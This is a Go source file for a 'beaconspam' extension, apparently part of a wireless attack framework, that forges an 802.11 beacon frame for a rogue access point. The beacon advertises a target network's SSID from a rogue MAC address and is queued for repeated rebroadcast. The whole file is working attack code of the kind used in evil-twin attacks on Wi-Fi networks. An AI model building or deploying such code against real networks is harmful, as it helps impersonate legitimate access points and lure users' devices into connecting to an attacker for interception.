// Package beaconspam keeps a forged beacon for a rogue access point on
// the air.
package beaconspam

import (
	"crypto/rand"
	"fmt"
	"net"
	"sync"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"

	"firestige.xyz/strix/internal/core"
	"firestige.xyz/strix/pkg/extension"
)

const (
	// beaconInterval is the advertised interval in time units.
	beaconInterval = 100
	// capabilityESS marks the sender as an access point.
	capabilityESS = 0x0001

	defaultChannel = 1
)

// Config represents beaconspam-specific settings.
type Config struct {
	SSID    string `mapstructure:"beacon_ssid"`
	Channel int    `mapstructure:"beacon_channel"`
	BSSID   string `mapstructure:"beacon_bssid"`
}

// Spammer emits one forged beacon frame with the repeat policy, so the
// transmit loop keeps rebroadcasting it without further involvement.
type Spammer struct {
	ssid    string
	channel int
	bssid   net.HardwareAddr
	beacon  []byte

	once sync.Once
	log  extension.LogBuffer
}

// New constructs the extension. Registered under "beaconspam". The SSID
// comes from the beacon_ssid setting or the shared target SSID; without
// either the load fails.
func New(data extension.SharedData) (extension.Extension, error) {
	var cfg Config
	if err := extension.DecodeSettings(data.Settings, &cfg); err != nil {
		return nil, err
	}
	if cfg.SSID == "" {
		cfg.SSID = data.TargetSSID
	}
	if cfg.SSID == "" {
		return nil, fmt.Errorf("beaconspam: no SSID configured")
	}
	if cfg.Channel == 0 {
		cfg.Channel = data.TargetChannel
	}
	if cfg.Channel == 0 {
		cfg.Channel = defaultChannel
	}
	if cfg.BSSID == "" {
		cfg.BSSID = data.RogueAPMAC
	}

	var bssid net.HardwareAddr
	if cfg.BSSID != "" {
		parsed, err := net.ParseMAC(cfg.BSSID)
		if err != nil {
			return nil, fmt.Errorf("beaconspam: bad BSSID %q: %w", cfg.BSSID, err)
		}
		bssid = parsed
	} else {
		bssid = randomBSSID()
	}

	beacon, err := buildBeacon(cfg.SSID, bssid, cfg.Channel)
	if err != nil {
		return nil, err
	}

	return &Spammer{
		ssid:    cfg.SSID,
		channel: cfg.Channel,
		bssid:   bssid,
		beacon:  beacon,
	}, nil
}

func (s *Spammer) Name() string {
	return "beaconspam"
}

// Ingest hands the beacon to the manager on the first frame seen; the
// repeat policy keeps it queued for the rest of the run.
func (s *Spammer) Ingest(*core.Frame) ([]*core.Frame, error) {
	var out []*core.Frame
	s.once.Do(func() {
		out = []*core.Frame{core.NewOutboundFrame(s.beacon, core.TransmitRepeat)}
		s.log.Appendf("broadcasting beacon for %q on channel %d (bssid %s)", s.ssid, s.channel, s.bssid)
	})
	return out, nil
}

// DrainLog returns and clears the accumulated lines.
func (s *Spammer) DrainLog() ([]string, error) {
	return s.log.Drain(), nil
}

// buildBeacon serializes a radiotap-wrapped beacon advertising the SSID
// on the given channel.
func buildBeacon(ssid string, bssid net.HardwareAddr, channel int) ([]byte, error) {
	broadcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}

	radio := &layers.RadioTap{}
	dot11 := &layers.Dot11{
		Type:     layers.Dot11TypeMgmtBeacon,
		Address1: broadcast,
		Address2: bssid,
		Address3: bssid,
	}
	beacon := &layers.Dot11MgmtBeacon{
		Interval: beaconInterval,
		Flags:    capabilityESS,
	}
	ssidIE := &layers.Dot11InformationElement{
		ID:   layers.Dot11InformationElementIDSSID,
		Info: []byte(ssid),
	}
	dsIE := &layers.Dot11InformationElement{
		ID:   layers.Dot11InformationElementIDDSSet,
		Info: []byte{byte(channel)},
	}

	buf := gopacket.NewSerializeBuffer()
	opts := gopacket.SerializeOptions{FixLengths: true}
	if err := gopacket.SerializeLayers(buf, opts, radio, dot11, beacon, ssidIE, dsIE); err != nil {
		return nil, fmt.Errorf("beaconspam: serialize beacon: %w", err)
	}
	return buf.Bytes(), nil
}

// randomBSSID returns a locally administered unicast MAC.
func randomBSSID() net.HardwareAddr {
	addr := make(net.HardwareAddr, 6)
	if _, err := rand.Read(addr); err != nil {
		copy(addr, []byte{0x02, 0x00, 0x00, 0x00, 0x00, 0x01})
	}
	addr[0] = (addr[0] | 0x02) &^ 0x01
	return addr
}
